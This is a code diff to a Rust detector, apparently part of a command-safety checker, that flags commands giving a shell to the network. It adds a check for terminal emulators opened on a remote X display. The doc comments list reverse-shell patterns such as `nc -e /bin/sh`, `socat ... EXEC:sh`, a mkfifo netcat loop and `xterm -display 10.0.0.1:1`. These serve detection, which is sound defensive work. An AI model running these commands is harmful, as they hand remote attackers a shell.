@@ -12,7 +12,8 @@
 //! * a network tool's option that runs a program on the connection (`nc -e /bin/sh`,
 //!   `ncat --sh-exec`, `--lua-exec`, `socat TCP:h:p EXEC:sh`);
 //! * a shell or interpreter reading its program from a pipeline in which a network tool is
-//!   another stage (`nc h p | sh`, the `mkfifo` loop `cat f | sh -i | nc h p > f`).
+//!   another stage (`nc h p | sh`, the `mkfifo` loop `cat f | sh -i | nc h p > f`);
+//! * a terminal opened on another machine's display (`xterm -display 10.0.0.1:1`).
 
 use super::super::names::{folded_key, Key};
 use super::super::{wrappers, SimpleCommand};
@@ -46,9 +47,27 @@ const SOCAT_RUN: &[&str] = &["exec:", "system:", "shell:"];
 /// Whether `c` (one of `cmds`) gives a shell to the network.
 pub(super) fn detect(cmds: &[SimpleCommand], c: &SimpleCommand) -> bool {
     connected(cmds, c)
+        || remote_terminal(c)
         || runs_on_connection(c)
         || shell_on_network_pipe(cmds, c)
         || interpreter_shell(c)
+}
+
+/// A terminal emulator shown on a display of another host (`-display h:1`, `-d h:1`).
+fn remote_terminal(c: &SimpleCommand) -> bool {
+    let terminal = matches!(
+        c.name(),
+        Some("xterm" | "uxterm" | "rxvt" | "urxvt" | "aterm")
+    );
+    let remote = |display: &str| {
+        display.split_once(':').is_some_and(|(host, _)| {
+            !host.is_empty() && !matches!(host, "localhost" | "unix" | "127.0.0.1")
+        })
+    };
+    terminal
+        && c.words
+            .windows(2)
+            .any(|p| matches!(p[0].as_str(), "-display" | "-d" | "--display") && remote(&p[1]))
 }
 
 /// Runs code it reads, or a program named by a value.
